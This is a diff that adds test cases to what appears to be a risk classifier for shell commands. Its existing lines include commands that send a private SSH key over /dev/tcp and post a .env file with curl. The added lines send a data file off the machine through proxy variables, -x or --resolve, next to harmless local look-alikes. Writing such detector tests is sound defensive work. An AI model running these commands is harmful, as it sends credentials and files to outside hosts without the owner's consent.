@@ -26,7 +26,14 @@ UPLOADS = [
     ("cat ~/.ssh/id_rsa > /dev/tcp/127.0.0.1/8000", C, "min"),
     ("curl -K c.cfg", M, "min"),
     ("curl -d @.env http://127.0.0.1:8000", H, "min"),
+    # any file: redirected off the machine by --resolve, -x or a proxy named on the line
+    ("ALL_PROXY=http://example.com:3128 curl -d @data.json http://127.0.0.1/", H, "min"),
+    ("https_proxy=http://example.com:3128 curl -T data.json https://localhost/", H, "min"),
+    ("curl -d @data.json --resolve localhost:80:93.184.216.34 http://localhost/", H, "min"),
+    ("curl -x http://example.com:3128 -F f=@data.json http://127.0.0.1/", H, "min"),
     # look-alikes: ordinary data to a local server
+    ("curl -d @data.json http://127.0.0.1/", L, "max"),
+    ("http_proxy=http://proxy:3128 curl http://127.0.0.1/", L, "max"),
     ("curl -d '{\"a\":1}' http://127.0.0.1:8000", L, "max"),
     ("curl -d @payload.json http://localhost:8080/api", M, "max"),
     ("curl http://127.0.0.1:8000/health", L, "max"),
